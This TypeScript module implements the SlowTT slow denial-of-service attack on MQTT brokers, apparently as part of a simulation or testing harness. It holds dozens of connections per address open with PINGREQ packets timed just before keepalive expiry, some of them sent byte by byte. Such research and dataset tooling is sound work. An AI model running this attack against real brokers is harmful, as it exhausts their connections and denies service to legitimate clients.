// SlowTT: few connections, held for ever by the smallest packets just in time.

import type { Attack } from '../attacker.js'
import { connectPacket, PINGREQ } from '../packets.js'

/** SlowTT (Vaccari, Aiello, Cambiaso 2021): silent connections, kept alive by the smallest packets just in time. */
export const slowTt: Attack = {
  name: 'slowtt',
  summary:
    'SlowTT: 3 to 5 addresses hold 50 to 80 connections each, a PINGREQ just before the broker would give up, and some packets sent byte by byte',
  attackers: [3, 5],
  async run(attacker) {
    const { chance } = attacker
    const places = chance.whole(50, 80)
    const hold = async (): Promise<void> => {
      const keepalive = chance.whole(4, 8)
      const drips = chance.happens(0.3)
      while (!attacker.over) {
        const socket = await attacker.connect()
        if (socket === null) {
          await attacker.pause(1_000)
          continue
        }
        await attacker.send(socket, connectPacket({ clientId: chance.text(16), keepalive, clean: true }))
        while (!socket.destroyed) {
          await attacker.pause(keepalive * (drips ? 500 : 1_300))
          // Half a PINGREQ now, the other half next time.
          const bytes = drips
            ? PINGREQ.subarray(socket.bytesWritten % 2 === 0 ? 0 : 1, socket.bytesWritten % 2 === 0 ? 1 : 2)
            : PINGREQ
          if (!(await attacker.send(socket, bytes))) break
        }
      }
    }
    const holding: Promise<void>[] = []
    for (let i = 0; i < places && !attacker.over; i++) {
      holding.push(hold())
      await attacker.pause(chance.between(50, 150))
    }
    await Promise.all(holding)
  }
}
